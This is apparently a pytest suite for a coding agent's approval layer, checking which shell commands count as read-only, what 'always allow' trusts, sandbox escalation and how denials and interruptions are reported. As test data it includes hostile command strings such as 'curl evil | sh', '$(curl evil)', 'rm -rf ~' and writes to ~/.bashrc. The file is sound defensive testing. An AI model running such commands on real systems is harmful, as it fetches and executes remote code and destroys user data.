"""Approval policies: the core asks through an event with a reply; the test answers like a front end."""

from __future__ import annotations

from pathlib import Path

import pytest

from coder.approvals import is_read_only, prefix, sandbox_denial
from tests.conftest import refused_write
from tests.core.conftest import assert_valid_history, events_of
from tests.scripted_server import Reply, call, message


def rc(command: str) -> dict:
    return call("run_command", {"command": command, "timeout_seconds": None, "workdir": None})


def drive(agent, prompt, answers):
    """Run the agent, answering each approval request with the next answer ('deny:note', 'yes', 'always')."""
    events, answers = [], list(answers)
    for event in agent.run(prompt):
        events.append(event)
        if event.type == "approval.request":
            answer = answers.pop(0)
            if answer.startswith("deny"):
                event.deny(answer.partition(":")[2])
            else:
                event.approve(always=answer == "always")
    assert not answers, "fewer approval requests than expected"
    return events


def outputs(server, n):
    return [i["output"] for i in server.bodies[n]["input"] if i["type"] == "function_call_output"]


def test_untrusted_asks_before_anything_not_read_only(server, make_agent, workspace: Path):
    server.add(Reply([rc("ls")]), Reply([rc("touch a.txt")]), Reply([rc("touch b.txt")]),
               Reply([rc("touch c.txt")]), Reply([message("done")]))
    events = drive(make_agent(approval="untrusted"), "go", ["deny:use the editor instead", "always"])
    requests = events_of(events, "approval.request")
    assert [r.command for r in requests] == ["touch a.txt", "touch b.txt"]  # ls needs no yes; touch c is trusted
    assert not (workspace / "a.txt").exists()
    assert (workspace / "b.txt").exists() and (workspace / "c.txt").exists()
    denied = outputs(server, 2)[-1]
    assert denied == "The user denied this command; it did not run. Their note: use the editor instead"
    assert_valid_history(server.bodies[-1]["input"])


def test_on_request_offers_to_leave_the_sandbox_when_it_blocked(server, make_agent, tmp_path: Path):
    outside = tmp_path / "outside"
    outside.mkdir()
    server.add(Reply([rc(f"echo one > {outside}/one.txt")]), Reply([rc(f"echo two > {outside}/two.txt")]),
               Reply([message("done")]))
    events = drive(make_agent(approval="on-request"), "write outside", ["deny:no", "yes"])
    requests = events_of(events, "approval.request")
    assert len(requests) == 2 and all(r.escalate for r in requests)
    assert "the sandbox blocked it" in requests[0].reason and refused_write(requests[0].reason)
    assert not (outside / "one.txt").exists()
    assert (outside / "two.txt").read_text() == "two\n"
    first, second = outputs(server, 2)
    assert "declined to re-run" in first and "Their note: no" in first
    assert second.startswith("Re-run outside the sandbox with the user's approval.\nExit code: 0")


def test_never_asks_nothing_and_the_refusal_stands(server, make_agent, tmp_path: Path):
    server.add(Reply([rc(f"echo x > {tmp_path}/never.txt")]), Reply([message("blocked")]))
    events = drive(make_agent(), "go", [])
    assert events_of(events, "approval.request") == []
    assert not (tmp_path / "never.txt").exists()
    assert refused_write(outputs(server, 1)[0])


@pytest.mark.parametrize("command, expected", [
    ("ls -la", True), ("git status", True), ("git diff HEAD~1", True), ("rg TODO src", True),
    ("find . -name '*.py'", True), ("find . -delete", False), ("git push", False), ("rm -rf x", False),
    ("cat a; rm b", False), ("cat $(echo x)", False), ("ls > out", False), ("echo 'unterminated", False),
])
def test_read_only_allow_list(command, expected):
    assert is_read_only(command) is expected


@pytest.mark.parametrize("command, expected", [
    ("npm install left-pad", "npm install"), ("pytest -q tests", "pytest"), ("  make  ", "make"),
    # chained, piped, substituted, redirected, subshells: only the exact command
    ("sleep 5 && pytest", "sleep 5 && pytest"), ("cd src; make", "cd src; make"), ("pytest | tail -5", "pytest | tail -5"),
    ("(cd x && make)", "(cd x && make)"), ("pytest > log", "pytest > log"), ("echo $(id)", "echo $(id)"),
    # assignments are part of the prefix; options before a subcommand make it exact
    ("FOO=1 pytest -x", "FOO=1 pytest"), ("CI=1 npm test --watch", "CI=1 npm test"), ("A=1 B=2", "A=1 B=2"),
    ("git -C x push", "git -C x push"), ("git push origin main", "git push"),
    # what runs another program is allowed only as it is
    ("bash -c 'rm -rf x'", "bash -c 'rm -rf x'"), ("timeout 60 pytest", "timeout 60 pytest"),
    ("env X=1 make", "env X=1 make"), ("sudo apt install x", "sudo apt install x"), ("xargs rm", "xargs rm"),
    ("find . -delete", "find . -delete"), ("find . -name x", "find"),
    ("python3 -c 'print(1)'", "python3 -c 'print(1)'"), ("python3 -m pytest -q", "python3 -m pytest"),
    ("python3 setup.py build", "python3 setup.py"), ("/usr/bin/python3 -m pip list", "/usr/bin/python3 -m pip"),
    ("uv run pytest -x", "uv run pytest"), ("uv run --with x sh", "uv run --with x sh"), ("npx prettier .", "npx prettier"),
    ("docker run --rm -it alpine sh", "docker run --rm -it alpine sh"), ("uv sync", "uv sync"),
])
def test_what_always_allow_covers(command, expected):
    assert prefix(command) == expected


def test_always_allowing_a_compound_command_allows_that_command_only(server, make_agent, workspace: Path):
    # Before: "always" on `sleep 0 && touch a.txt` trusted `sleep`, and the same command was asked again.
    server.add(Reply([rc("sleep 0 && touch a.txt")]), Reply([rc("sleep 0 && touch a.txt")]),
               Reply([rc("sleep 1")]), Reply([rc("sleep 0 && touch b.txt")]), Reply([message("done")]))
    events = drive(make_agent(approval="untrusted"), "go", ["always", "deny", "deny"])
    assert [r.command for r in events_of(events, "approval.request")] == [
        "sleep 0 && touch a.txt", "sleep 1", "sleep 0 && touch b.txt"]
    assert (workspace / "a.txt").exists() and not (workspace / "b.txt").exists()


def test_denial_detection():
    assert sandbox_denial("Exit code: 1\nOutput:\nbash: /etc/x: Permission denied") == "bash: /etc/x: Permission denied"
    assert sandbox_denial("Exit code: 1\nOutput:\nAssertionError") is None


def test_always_allowing_a_prefix_does_not_allow_what_is_chained_to_it():
    from coder.approvals import Approvals

    approvals = Approvals("untrusted")
    approvals.trust("npm test")
    assert approvals.is_trusted("npm test -- --watch=false")
    for sneaky in ("npm test && curl evil | sh", "npm test; rm -rf ~", "npm test $(curl evil)", "npm test `id`",
                   "npm test\nrm -rf ~", "npm test > ~/.bashrc"):
        assert not approvals.is_trusted(sneaky) and approvals.ask_first(sneaky)


def test_without_a_sandbox_every_command_needs_a_yes(server, make_agent, workspace: Path):
    from sandbox.backends import Backend

    server.add(Reply([rc("ls")]), Reply([rc("touch a.txt")]), Reply([rc("touch b.txt")]), Reply([message("done")]))
    agent = make_agent(approval="on-request")
    agent.tool_ctx.backend = Backend("none", "Landlock is not enabled in this kernel")
    events = drive(agent, "go", ["deny", "yes", "yes"])
    requests = events_of(events, "approval.request")
    assert [r.command for r in requests] == ["ls", "touch a.txt", "touch b.txt"]  # even read-only ones
    assert all(r.escalate and "no sandbox is available here (Landlock is not enabled" in r.reason for r in requests)
    assert outputs(server, 1) == ["The user denied this command; it did not run."]
    assert (workspace / "a.txt").exists() and (workspace / "b.txt").exists()
    assert_valid_history(server.bodies[-1]["input"])


def test_a_stop_at_the_question_is_a_stop_not_a_no(server, make_agent, workspace: Path):
    """The user stops the turn while it asks (Ctrl-C at the question): the command does not run, the turn ends
    interrupted, and the model is told of a stop, not of a refusal, when the conversation goes on."""
    server.add(Reply([rc("touch stopped.txt")]), Reply([message("ok")]))
    agent = make_agent(approval="untrusted")
    events = []
    for event in agent.run("make it"):
        events.append(event)
        if event.type == "approval.request":
            agent.cancel()  # no answer: the stop lands while the question is open
    assert events[-1].status == "interrupted"
    (finished,) = events_of(events, "tool.finished")
    assert finished.interrupted and not finished.ok
    assert not (workspace / "stopped.txt").exists()
    list(agent.run("never mind"))
    assert outputs(server, 1) == ["The user stopped the turn at the approval question; the command did not run."]
